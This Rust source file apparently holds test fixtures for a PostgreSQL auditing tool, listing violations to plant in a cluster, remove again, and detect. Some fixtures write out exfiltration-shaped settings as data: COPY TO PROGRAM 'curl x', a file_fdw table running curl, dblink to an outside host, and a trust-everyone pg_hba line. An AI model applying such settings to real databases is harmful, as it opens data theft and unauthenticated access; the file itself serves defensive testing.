//! The violations: how each is planted and removed, and what has to be found, no more and no less. Not here: how that is
//! done (`seeded`).

/// One thing that is done to the cluster.
pub enum Step {
    /// Statements of the superuser; `;;` divides those that run in no transaction together.
    Sql(&'static str),
    Reload,
    Restart,
    /// Adds to a file of the data folder.
    Write(&'static str, &'static str),
    /// Takes that out again.
    Cut(&'static str, &'static str),
    /// A file of three days ago.
    Old(&'static str),
    Gone(&'static str),
    /// A folder beside the data folder.
    Folder(&'static str),
    /// A session of this role that stays.
    Login(&'static str),
    /// A program of PostgreSQL's that stays.
    Program(&'static str, &'static [&'static str]),
    /// Ends sessions and programs.
    End,
}
use Step::{Cut, End, Folder, Gone, Login, Old, Program, Reload, Restart, Sql, Write};

pub struct Seed {
    pub name: &'static str,
    pub plant: &'static [Step],
    pub remove: &'static [Step],
    /// (check, object); `*` at the end stands for any rest.
    pub finds: &'static [(&'static str, &'static str)],
}

const fn seed(
    name: &'static str,
    plant: &'static [Step],
    remove: &'static [Step],
    finds: &'static [(&'static str, &'static str)],
) -> Seed {
    Seed { name, plant, remove, finds }
}

const REPLICATION: &str = "local replication postgres peer map=test\n";

pub const SEEDS: &[Seed] = &[
    // Copies that follow.
    seed(
        "pg_receivewal is connected",
        &[
            Write("pg_hba.conf", REPLICATION),
            Reload,
            Folder("received"),
            Program("pg_receivewal", &["-n", "-D", "{dir}/received"]),
        ],
        &[End, Cut("pg_hba.conf", REPLICATION), Reload],
        &[("standby", "postgres (whole cluster)"), ("hba", "local replication postgres peer map=test")],
    ),
    seed(
        "a base backup is taken",
        &[
            Write("pg_hba.conf", REPLICATION),
            Reload,
            Folder("backup"),
            Program("pg_basebackup", &["-D", "{dir}/backup", "-r", "100k", "-X", "none", "-c", "fast"]),
        ],
        &[End, Cut("pg_hba.conf", REPLICATION), Reload],
        &[
            ("standby", "postgres (whole cluster)"),
            ("base-backup", "postgres at this machine"),
            ("hba", "local replication postgres peer map=test"),
        ],
    ),
    seed(
        "a physical slot is left behind",
        &[Sql("SELECT pg_create_physical_replication_slot('forgotten', true)")],
        &[Sql("SELECT pg_drop_replication_slot('forgotten')")],
        &[("replication-slot", "forgotten"), ("replication-slot", "forgotten (inactive)")],
    ),
    seed(
        "a logical slot is left behind",
        &[Sql("SELECT pg_create_logical_replication_slot('decoded', 'pgoutput')")],
        &[Sql("SELECT pg_drop_replication_slot('decoded')")],
        &[("replication-slot", "decoded"), ("replication-slot", "decoded (inactive)")],
    ),
    seed(
        "a publication of all tables",
        &[Sql("CREATE PUBLICATION everything FOR ALL TABLES")],
        &[Sql("DROP PUBLICATION everything")],
        &[("publication", "everything: all tables")],
    ),
    seed(
        "publications of a schema and of a table",
        &[Sql(
            "CREATE PUBLICATION wide FOR TABLES IN SCHEMA public;; CREATE PUBLICATION narrow FOR TABLE public.users (id, home)",
        )],
        &[Sql("DROP PUBLICATION wide, narrow")],
        &[("publication", "wide: schema public"), ("publication", "narrow: public.users")],
    ),
    seed(
        "a subscription to a foreign host",
        &[Sql(
            "CREATE SUBSCRIPTION elsewhere CONNECTION 'host=198.51.100.7 user=x password=''{secret} 2''' PUBLICATION p \
               WITH (connect = false, slot_name = NONE)",
        )],
        &[Sql("DROP SUBSCRIPTION elsewhere")],
        &[
            ("subscription", "elsewhere"),
            ("subscription", "elsewhere to 198.51.100.7"),
            ("replication-origin", "pg_*"),
        ],
    ),
    seed(
        "a subscription by URL, to a host inside",
        &[Sql(
            "CREATE SUBSCRIPTION inside CONNECTION 'postgresql://x:{secret}@10.1.0.7/d?sslpassword={secret}' PUBLICATION p \
               WITH (connect = false, slot_name = NONE)",
        )],
        &[Sql("DROP SUBSCRIPTION inside")],
        &[("subscription", "inside"), ("replication-origin", "pg_*")],
    ),
    seed(
        "another program applies changes",
        &[Sql("SELECT pg_replication_origin_create('bucardo')")],
        &[Sql("SELECT pg_replication_origin_drop('bucardo')")],
        &[("replication-origin", "bucardo")],
    ),
    // Configuration.
    seed(
        "an archive command that waits for archive_mode",
        &[Sql("ALTER SYSTEM SET archive_command = 'cp %p /mnt/us/%f'"), Reload],
        &[Sql("ALTER SYSTEM RESET archive_command"), Reload],
        &[("shell-command", "archive_command=cp %p /mnt/us/%f")],
    ),
    seed(
        "other commands",
        &[
            Write(
                "postgresql.conf",
                "restore_command = 'a'\nrecovery_end_command = 'b'\narchive_cleanup_command = 'c'\n",
            ),
            Reload,
        ],
        &[
            Cut(
                "postgresql.conf",
                "restore_command = 'a'\nrecovery_end_command = 'b'\narchive_cleanup_command = 'c'\n",
            ),
            Reload,
        ],
        &[
            ("shell-command", "restore_command=a"),
            ("shell-command", "recovery_end_command=b"),
            ("shell-command", "archive_cleanup_command=c"),
        ],
    ),
    seed(
        "a command for the key's passphrase",
        &[Sql("ALTER SYSTEM SET ssl_passphrase_command = 'curl x'"), Reload],
        &[Sql("ALTER SYSTEM RESET ssl_passphrase_command"), Reload],
        &[("shell-command", "ssl_passphrase_command=curl x")],
    ),
    seed(
        "a cluster to follow after the next restart",
        &[
            Sql("ALTER SYSTEM SET primary_conninfo = 'host=203.0.113.9 password={secret}';; \
                 ALTER SYSTEM SET primary_slot_name = 'us'"),
            Reload,
        ],
        &[Sql("ALTER SYSTEM RESET primary_conninfo;; ALTER SYSTEM RESET primary_slot_name"), Reload],
        &[
            ("upstream-setting", "primary_conninfo to 203.0.113.9 (outside)"),
            ("upstream-setting", "primary_conninfo to 203.0.113.9"),
            ("upstream-setting", "primary_slot_name=us"),
        ],
    ),
    seed(
        "a standby that is waited for",
        &[Sql("ALTER SYSTEM SET synchronous_standby_names = 'us1'"), Reload],
        &[Sql("ALTER SYSTEM RESET synchronous_standby_names"), Reload],
        &[("upstream-setting", "synchronous_standby_names=us1")],
    ),
    seed(
        "a command that is written and not read yet",
        &[Sql("ALTER SYSTEM SET restore_command = 'later'")],
        &[Sql("ALTER SYSTEM RESET restore_command")],
        &[("pending-config", "restore_command"), ("shell-command", "restore_command=later")],
    ),
    seed(
        "a line that waits for a restart",
        &[Write("postgresql.conf", "max_connections = 77\n"), Reload],
        &[Cut("postgresql.conf", "max_connections = 77\n"), Reload],
        &[("pending-config", "max_connections")],
    ),
    seed(
        "a line that holds up the file",
        &[Write("postgresql.conf", "nonsense = 1\n")],
        &[Cut("postgresql.conf", "nonsense = 1\n")],
        &[("pending-config", "nonsense")],
    ),
    seed(
        "a library in every session, and a place for more",
        &[
            Sql("ALTER SYSTEM SET session_preload_libraries = 'auto_explain';; \
                 ALTER SYSTEM SET dynamic_library_path = '/tmp:$libdir'"),
            Reload,
        ],
        &[
            Sql("ALTER SYSTEM RESET session_preload_libraries;; ALTER SYSTEM RESET dynamic_library_path"),
            Reload,
        ],
        &[("library", "auto_explain"), ("library", "dynamic_library_path=/tmp:$libdir")],
    ),
    seed(
        "settings of a role and of a database",
        &[Sql("ALTER ROLE app SET log_statement = 'all';; ALTER DATABASE postgres SET work_mem = '64MB'")],
        &[Sql("ALTER ROLE app RESET log_statement;; ALTER DATABASE postgres RESET work_mem")],
        &[
            ("override", "app in every database: log_statement=all"),
            ("override", "every role in postgres: work_mem=64MB"),
        ],
    ),
    seed(
        "a log with statements and parameters, sent away",
        &[
            Sql(
                "ALTER SYSTEM SET log_destination = 'stderr,syslog';; ALTER SYSTEM SET log_statement = 'all'",
            ),
            Reload,
        ],
        &[Sql("ALTER SYSTEM RESET log_destination;; ALTER SYSTEM RESET log_statement"), Reload],
        &[
            ("log", "log_destination=stderr,syslog"),
            ("log", "log_statement=all"),
            ("log", "log_parameter_max_length=-1"),
        ],
    ),
    seed(
        "a log of slow and of failed statements, and none of logins",
        &[
            Sql(
                "ALTER SYSTEM SET log_min_duration_statement = 0;; ALTER SYSTEM SET log_parameter_max_length = 0;; \
                 ALTER SYSTEM SET log_parameter_max_length_on_error = -1;; ALTER SYSTEM SET log_connections = off",
            ),
            Reload,
        ],
        &[Sql("ALTER SYSTEM RESET ALL"), Reload],
        &[
            ("log", "log_min_duration_statement=0"),
            ("log", "log_parameter_max_length_on_error=-1"),
            ("connection-log", "log_connections=off"),
        ],
    ),
    seed(
        "a setting of the server that somebody may change",
        &[Sql("GRANT ALTER SYSTEM ON PARAMETER archive_command TO app")],
        &[Sql("REVOKE ALL ON PARAMETER archive_command FROM app")],
        &[("parameter-grant", "ALTER SYSTEM on archive_command to app")],
    ),
    seed(
        "a server that listens everywhere, with a library",
        &[
            Write("postgresql.conf", "listen_addresses = '*'\nshared_preload_libraries = 'pg_prewarm'\n"),
            Restart,
        ],
        &[
            Cut("postgresql.conf", "listen_addresses = '*'\nshared_preload_libraries = 'pg_prewarm'\n"),
            Restart,
        ],
        &[("listen", "*"), ("listen", "ssl=off"), ("library", "pg_prewarm")],
    ),
    // What reaches elsewhere.
    seed(
        "a foreign server, with a login and a table",
        &[Sql("CREATE EXTENSION postgres_fdw;; \
               CREATE SERVER us FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '198.51.100.7');; \
               CREATE USER MAPPING FOR app SERVER us OPTIONS (user 'x', password '{secret}');; \
               CREATE FOREIGN TABLE public.remote (id int) SERVER us")],
        &[Sql("DROP EXTENSION postgres_fdw CASCADE")],
        &[
            ("extension", "postgres_fdw"),
            ("foreign-server", "us"),
            ("foreign-server", "us to 198.51.100.7"),
            ("user-mapping", "app at us"),
            ("foreign-table", "public.remote"),
        ],
    ),
    seed(
        "a table that is a program",
        &[Sql("CREATE EXTENSION file_fdw;; CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;; \
               CREATE FOREIGN TABLE public.shell (line text) SERVER files OPTIONS (program 'curl x')")],
        &[Sql("DROP EXTENSION file_fdw CASCADE")],
        &[("extension", "file_fdw"), ("foreign-server", "files"), ("foreign-table", "public.shell")],
    ),
    seed(
        "another database",
        &[Sql("CREATE DATABASE other")],
        &[Sql("DROP DATABASE other")],
        &[("database", "other")],
    ),
    // Code.
    seed(
        "functions that reach outside",
        &[Sql("CREATE FUNCTION public.leak() RETURNS void LANGUAGE plpgsql AS \
               'BEGIN PERFORM dblink(''host=198.51.100.7'', ''SELECT 1''); END';; \
               CREATE FUNCTION public.pipe(text) RETURNS void LANGUAGE plpgsql AS \
               'BEGIN EXECUTE ''COPY users TO PROGRAM ''''curl x''''''; END'")],
        &[Sql("DROP FUNCTION public.leak(), public.pipe(text)")],
        &[("code", "public.leak() sha256:*"), ("code", "public.pipe(text) sha256:*")],
    ),
    seed(
        "a trigger and a rule",
        &[Sql(
            "CREATE TRIGGER audit BEFORE INSERT ON public.users FOR EACH ROW EXECUTE FUNCTION public.harmless();; \
               CREATE RULE double AS ON INSERT TO public.users DO ALSO NOTIFY x",
        )],
        &[Sql("DROP TRIGGER audit ON public.users;; DROP RULE double ON public.users")],
        &[("trigger", "audit on public.users"), ("rule", "double on public.users")],
    ),
    seed(
        "an event trigger",
        &[Sql("CREATE FUNCTION public.event() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';; \
               CREATE EVENT TRIGGER watched ON ddl_command_end EXECUTE FUNCTION public.event()")],
        &[Sql("DROP EVENT TRIGGER watched;; DROP FUNCTION public.event()")],
        &[("event-trigger", "watched")],
    ),
    seed(
        "a function in C",
        &[Sql(
            "CREATE FUNCTION public.native(text) RETURNS text LANGUAGE c AS '$libdir/dblink', 'dblink_connect'",
        )],
        &[Sql("DROP FUNCTION public.native(text)")],
        &[("untrusted-language", "public.native(text)")],
    ),
    // People.
    seed(
        "roles above privileges",
        &[Sql(
            "CREATE ROLE s SUPERUSER;; CREATE ROLE r REPLICATION;; CREATE ROLE b BYPASSRLS;; CREATE ROLE c CREATEROLE",
        )],
        &[Sql("DROP ROLE s, r, b, c")],
        &[
            ("role-attribute", "s SUPERUSER"),
            ("role-attribute", "r REPLICATION"),
            ("role-attribute", "b BYPASSRLS"),
            ("role-attribute", "c CREATEROLE"),
        ],
    ),
    seed(
        "members of roles that reach files, one through another",
        &[Sql("CREATE ROLE between;; GRANT pg_execute_server_program TO between;; GRANT between TO app;; \
               GRANT pg_read_server_files, pg_read_all_data TO app;; GRANT pg_monitor TO app")],
        &[Sql("REVOKE pg_read_server_files, pg_read_all_data, pg_monitor FROM app;; DROP ROLE between")],
        &[
            ("membership", "between in pg_execute_server_program"),
            ("membership", "app in pg_execute_server_program"),
            ("membership", "app in pg_read_server_files"),
            ("membership", "app in pg_read_all_data"),
            ("statistics", "app reads statements of others"),
        ],
    ),
    seed(
        "functions and catalogs with values in them",
        &[Sql("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app;; GRANT SELECT ON pg_statistic TO app")],
        &[Sql(
            "REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM app;; REVOKE SELECT ON pg_statistic FROM app",
        )],
        &[("function-grant", "app may call pg_read_file(text)"), ("statistics", "app reads pg_statistic")],
    ),
    seed(
        "lines of pg_hba.conf that are wide open",
        &[Write("pg_hba.conf", OPEN), Reload],
        &[Cut("pg_hba.conf", OPEN), Reload],
        &[
            ("hba", "host all all 0.0.0.0/0.0.0.0 trust"),
            ("hba", "host app app 10.1.0.0/255.255.0.0 scram-sha-256"),
            ("hba", "host app app 198.51.100.0/255.255.255.0 scram-sha-256"),
            ("hba", "host app app samenet scram-sha-256"),
        ],
    ),
    seed(
        "a session of somebody who is not on the list",
        &[Sql("CREATE ROLE stranger LOGIN PASSWORD 'a test''s'"), Login("stranger")],
        &[End, Sql("DROP ROLE stranger")],
        &[("session", "stranger from 127.0.0.1")],
    ),
    // Files.
    seed(
        "a tablespace, for everything that spills, and a database in it",
        &[
            Folder("abroad"),
            Sql(
                "CREATE TABLESPACE abroad LOCATION '{dir}/abroad';; ALTER SYSTEM SET temp_tablespaces = 'abroad';; \
                 CREATE DATABASE far TABLESPACE abroad",
            ),
            Reload,
        ],
        &[Sql("ALTER SYSTEM RESET temp_tablespaces;; DROP DATABASE far;; DROP TABLESPACE abroad"), Reload],
        &[
            ("tablespace", "abroad at /*"),
            ("tablespace-setting", "temp_tablespaces=abroad"),
            ("tablespace-setting", "tablespace of far=abroad"),
            ("database", "far"),
        ],
    ),
    seed(
        "files that belong to nobody",
        &[Old("base/5/99999"), Old("base/5/99999_fsm"), Old("base/5/t3_99998.1")],
        &[Gone("base/5/99999"), Gone("base/5/99999_fsm"), Gone("base/5/t3_99998.1")],
        &[
            ("orphan-file", "base/5/99999"),
            ("orphan-file", "base/5/99999_fsm"),
            ("orphan-file", "base/5/t3_99998.1"),
        ],
    ),
    // Copies of values, and what keeps erased ones.
    seed(
        "copies inside the database",
        &[Sql("CREATE MATERIALIZED VIEW public.copied AS SELECT * FROM public.users;; \
               CREATE UNLOGGED TABLE public.quiet AS SELECT * FROM public.users;; SELECT lo_create(4242)")],
        &[Sql("DROP MATERIALIZED VIEW public.copied;; DROP TABLE public.quiet;; SELECT lo_unlink(4242)")],
        &[
            ("materialized-view", "public.copied"),
            ("unlogged-table", "public.quiet"),
            ("large-object", "large objects of postgres"),
        ],
    ),
    seed(
        "a prepared transaction",
        &[Sql("BEGIN; UPDATE public.users SET id = id; PREPARE TRANSACTION 'left'")],
        &[Sql("ROLLBACK PREPARED 'left'")],
        &[("prepared-transaction", "left")],
    ),
    seed(
        "files of the write-ahead log from before and for later",
        &[
            Old("pg_wal/000000010000000000000000"),
            Old("pg_wal/0000000100000000000000EE"),
            Old("pg_wal/0000000100000000000000EF"),
        ],
        &[
            Gone("pg_wal/000000010000000000000000"),
            Gone("pg_wal/0000000100000000000000EE"),
            Gone("pg_wal/0000000100000000000000EF"),
        ],
        &[("wal-file", "000000010000000000000000"), ("wal-file", "0000000100000000000000EE")],
    ),
    // Homes.
    seed(
        "a row in the wrong place, and nothing that refuses it",
        &[Sql(
            "ALTER TABLE public.users DROP CONSTRAINT at_home;; INSERT INTO public.users VALUES (1000, 'us')",
        )],
        &[Sql("DELETE FROM public.users WHERE home = 'us';; \
               ALTER TABLE public.users ADD CONSTRAINT at_home CHECK (home IN ('eu'))")],
        &[("home-bound", "public.users"), ("home-row", "public.users: home us")],
    ),
    seed(
        "a row that was there before what refuses it",
        &[Sql(
            "ALTER TABLE public.users DROP CONSTRAINT at_home;; INSERT INTO public.users VALUES (1000, 'us');; \
               ALTER TABLE public.users ADD CONSTRAINT at_home CHECK (home IN ('eu')) NOT VALID",
        )],
        &[Sql(
            "DELETE FROM public.users WHERE home = 'us';; ALTER TABLE public.users VALIDATE CONSTRAINT at_home",
        )],
        &[("home-bound", "public.users"), ("home-row", "public.users: home us")],
    ),
    seed(
        "a partition that takes every home",
        &[Sql("CREATE TABLE public.posts_rest PARTITION OF public.posts DEFAULT")],
        &[Sql("DROP TABLE public.posts_rest")],
        &[("home-bound", "posts_rest")],
    ),
];

const OPEN: &str = "\
host all all 0.0.0.0/0 trust
host app app 10.1.0.0/16 scram-sha-256
host app app 198.51.100.0/24 scram-sha-256
host app app samenet scram-sha-256
";
